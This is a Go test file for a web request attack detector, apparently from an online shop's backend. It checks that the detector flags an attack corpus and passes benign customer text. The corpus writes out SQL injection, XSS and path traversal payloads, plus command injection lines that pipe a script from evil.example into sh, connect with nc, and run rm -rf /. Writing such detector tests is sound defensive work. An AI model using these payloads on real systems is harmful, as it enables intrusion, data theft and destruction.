package security

import (
	"encoding/json"
	"net/http/httptest"
	"strings"
	"testing"
	"unicode/utf8"
)

// AttackCorpus is what attackers send, by the kind each must be recorded as. The e2e corpus test
// sends the same strings to every public write route.
var attackCorpus = []struct {
	value string
	kind  Kind
}{
	{`' OR '1'='1`, SQLInjection},
	{`admin'or'1'='1`, SQLInjection},
	{`x" OR ""="`, SQLInjection},
	{`1 OR 1=1`, SQLInjection},
	{`1 /*!50000UNION*/ 2`, SQLInjection},
	{`' or 1=1--`, SQLInjection},
	{`admin'--`, SQLInjection},
	{`1 UNION SELECT username, password_hash FROM users`, SQLInjection},
	{`1 UNION/**/SELECT null`, SQLInjection},
	{`x'; DROP TABLE orders; --`, SQLInjection},
	{`1; DELETE FROM users WHERE 1=1`, SQLInjection},
	{`1; UPDATE users SET role = 'admin'`, SQLInjection},
	{`1' AND sleep(5)#`, SQLInjection},
	{`1; WAITFOR DELAY '0:0:5'`, SQLInjection},
	{`1 AND benchmark(5000000,md5(1))`, SQLInjection},
	{`' UNION SELECT table_name FROM information_schema.tables`, SQLInjection},
	{`'||(SELECT password FROM users)||'`, SQLInjection},
	{`%27%20OR%20%271%27%3D%271`, SQLInjection},
	{`<script>alert(1)</script>`, XSS},
	{`<ScRiPt src=//evil.example/x.js></script>`, XSS},
	{`<img src=x onerror=alert(document.cookie)>`, XSS},
	{`<svg/onload=alert(1)>`, XSS},
	{`<a href="javascript:alert(1)">win</a>`, XSS},
	{`javascript:void(fetch('//evil.example'))`, XSS},
	{`<iframe src="//evil.example"></iframe>`, XSS},
	{`&lt;script&gt;alert(1)&lt;/script&gt;`, XSS},
	{`"><body onload=alert(1)>`, XSS},
	{`../../etc/passwd`, PathTraversal},
	{`..\..\windows\win.ini`, PathTraversal},
	{`/var/www/images/../../../etc/shadow`, PathTraversal},
	{`%2e%2e%2f%2e%2e%2fetc%2fpasswd`, PathTraversal},
	{`..%252f..%252fetc`, PathTraversal},
	{`file:///etc/hosts`, PathTraversal},
	{`x; rm -rf /`, CommandInjection},
	{`$(whoami)`, CommandInjection},
	{"`id`", CommandInjection},
	{`x | nc evil.example 4444`, CommandInjection},
	{`x && curl http://evil.example/x.sh | sh`, CommandInjection},
	{`x; cat /etc/passwd`, CommandInjection},
	{`x;wget 203.0.113.9/x`, CommandInjection},
	{`x; bash -c 'id'`, CommandInjection},
	{`x${IFS}cat${IFS}/etc/passwd`, CommandInjection},
	{"x\nping -c 5 203.0.113.9", CommandInjection},
}

// benignCorpus is what customers write: names, addresses, reviews and searches that look like code to
// a careless filter. None may be refused.
var benignCorpus = []string{
	`O'Brien`,
	`Séamus O'Brien-D'Arcy`,
	`D'Angelo & Sons`,
	`drop-in replacement, select the 5 inch props`,
	`Drop-in replacement; select the 5" props from the kit -- works great`,
	`12 Main St. #4 -- ring twice`,
	`Apt #3, 221B Baker St -- back door; leave with neighbour`,
	`Unit 7 # 2nd floor -- c/o Jordan`,
	`Great drone!!! 10/10 -- would buy again #happy`,
	`I'd say it's 5' tall -- no, 5 inches`,
	`Use the union of both kits and select carefully`,
	`Order #1234; update: it arrived`,
	`Changed my mind; update the set of props`,
	`Great for reading; delete from memory the old one`,
	`Rock & roll; cat lovers beware`,
	`Tom & Jerry; id say it is fine`,
	`Curl up with it; curl up and relax`,
	`I need sleep (8 hours) after flying`,
	`1 or 2 props, size 5=6 in the manual`,
	`3 < 5 and 7 > 2, <3 it`,
	`javascript: the good parts (2008)`,
	`email me at a+b@example.com`,
	`see https://example.com/a/b?c=d&e=f`,
	`100% cotton, 50%+ off`,
	`Wait... / so-so.../10`,
	`C:\Users\pilot\Desktop\flight.log`,
	`Ratio 1..2 / inch, levels 1..5`,
	`He is 6' 2" and said: that's "the one"`,
	`Café Zürich — naïve résumé 日本語 🚁`,
	`SELECT * FROM the menu: our catalogue of props`,
	`ls, rm and cat are my drones' names`,
	`Price | Quality | Support: all 5/5`,
	"Multi-line\nreview\twith tabs",
}

func TestDetectAttacks(t *testing.T) {
	for _, tt := range attackCorpus {
		t.Run(string(tt.kind)+"/"+tt.value, func(t *testing.T) {
			kind, rule, ok := detect(tt.value)
			if !ok || kind != tt.kind {
				t.Fatalf("detect(%q) = %q (%s) %v, want %q", tt.value, kind, rule, ok, tt.kind)
			}
		})
	}
}

func TestDetectPassesBenignText(t *testing.T) {
	for _, v := range benignCorpus {
		t.Run(v, func(t *testing.T) {
			if kind, rule, ok := detect(v); ok {
				t.Fatalf("detect(%q) = %s by rule %s: a customer would be refused", v, kind, rule)
			}
		})
	}
}

func TestExcerpt(t *testing.T) {
	long := strings.Repeat("é", 600)
	tests := []struct {
		name, in, want string
	}{
		{"plain_text_is_kept", `' OR '1'='1`, `' OR '1'='1`},
		{"control_characters_are_escaped", "a\nb\r\tc\x00d\x1b[31m", `a\nb\r\tc\u0000d\u001b[31m`},
		{"backslash_is_escaped_so_escapes_are_unambiguous", `a\nb`, `a\\nb`},
		{"invalid_utf8_is_escaped", "a\xffb", `a\xffb`},
		{"bidi_override_and_zero_width_are_escaped", "a\u202eb\u200bc", `a\u202eb\u200bc`},
		{"exactly_the_limit_is_not_cut", strings.Repeat("x", MaxPayload), strings.Repeat("x", MaxPayload)},
		{"longer_is_cut_with_an_ellipsis", long, strings.Repeat("é", MaxPayload-1) + "…"},
		{"escape_is_never_split", strings.Repeat("x", MaxPayload-2) + "\x00yz", strings.Repeat("x", MaxPayload-2) + "…"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := excerpt(tt.in, MaxPayload)
			if got != tt.want {
				t.Fatalf("excerpt = %q, want %q", got, tt.want)
			}
			if n := utf8.RuneCountInString(got); n > MaxPayload {
				t.Fatalf("excerpt has %d characters, more than %d", n, MaxPayload)
			}
		})
	}
}

func TestSubjectNamesProductAndSession(t *testing.T) {
	const cart = "0123456789abcdef0123456789abcdef"
	tests := []struct {
		name, pattern string
		values        map[string]string
		body          any
		product       int64
		session       string
	}{
		{"product_route_and_cart_body", "POST /api/products/{id}/reviews", map[string]string{"id": "12"},
			map[string]any{"cart_id": cart}, 12, cart},
		{"cart_route_and_product_body", "POST /api/carts/{cart_id}/items", map[string]string{"cart_id": cart},
			map[string]any{"product_id": json.Number("7")}, 7, cart},
		{"session_body", "POST /api/page-views", nil, map[string]any{"session_id": "sess-42"}, 0, "sess-42"},
		{"attackers_values_are_ignored", "POST /api/products/{id}/reviews", map[string]string{"id": "1 or 1=1"},
			map[string]any{"session_id": "' OR '1'='1", "product_id": json.Number("-3")}, 0, ""},
		{"id_of_another_resource_is_not_a_product", "GET /api/orders/{id}", map[string]string{"id": "5"}, nil, 0, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := httptest.NewRequest("POST", "/", nil)
			r.Pattern = tt.pattern
			for k, v := range tt.values {
				r.SetPathValue(k, v)
			}
			if product, session := subject(r, tt.body); product != tt.product || session != tt.session {
				t.Fatalf("subject = %d %q, want %d %q", product, session, tt.product, tt.session)
			}
		})
	}
}

// needsHold checks the prefilter's contract on one value: a rule whose pattern matches v must find
// one of its needs in v, or detect would never run the pattern on it.
func needsHold(t *testing.T, v string) {
	t.Helper()
	lower := strings.ToLower(v)
	for _, r := range rules {
		if r.re().MatchString(lower) && !containsAny(lower, r.needs) {
			t.Errorf("rule %s matches %q, which holds none of its needs %q", r.name, lower, r.needs)
		}
	}
}

// TestRuleNeedsAreSound runs every pattern, without its prefilter, over the attack corpus and over
// variants of each attack (every character dropped in turn, every character doubled, whitespace
// swapped), which is where a need that is not really required shows: a rule matching a value with
// none of its needs would let that attack through.
func TestRuleNeedsAreSound(t *testing.T) {
	for _, r := range rules {
		if len(r.needs) == 0 {
			t.Errorf("rule %s has no needs", r.name)
		}
	}
	matched := map[string]bool{}
	for _, tt := range attackCorpus {
		v := tt.value
		needsHold(t, v)
		for i := range len(v) {
			needsHold(t, v[:i]+v[i+1:])
			needsHold(t, v[:i+1]+v[i:])
		}
		needsHold(t, strings.NewReplacer(" ", "\t", "\t", " ").Replace(v))
		needsHold(t, strings.ReplaceAll(v, " ", "\n"))
		for _, r := range rules {
			if r.re().MatchString(strings.ToLower(v)) {
				matched[r.name] = true
			}
		}
	}
	for _, r := range rules {
		if !matched[r.name] {
			t.Errorf("no corpus attack exercises rule %s", r.name)
		}
	}
}

// FuzzRuleNeeds extends TestRuleNeedsAreSound to arbitrary inputs: go test -fuzz FuzzRuleNeeds.
func FuzzRuleNeeds(f *testing.F) {
	for _, tt := range attackCorpus {
		f.Add(tt.value)
	}
	f.Fuzz(func(t *testing.T, v string) { needsHold(t, v) })
}

// TestBenignTextCompilesNoPattern: detection of ordinary text runs on the prefilter alone, so a
// function whose first requests carry plain values compiles nothing at cold start.
func TestBenignTextCompilesNoPattern(t *testing.T) {
	plain := []string{"/api/products", "/api/products/42/reviews", "Falcon X8 Pro", "customer@example.com"}
	for _, v := range plain {
		lower := strings.ToLower(v)
		for _, r := range rules {
			if containsAny(lower, r.needs) {
				t.Errorf("%q holds a need of rule %s: its pattern would be compiled and run", v, r.name)
			}
		}
	}
	for _, v := range append(plain, "O'Brien") {
		if _, rule, ok := detect(v); ok {
			t.Errorf("detect(%q) matched %s", v, rule)
		}
	}
}
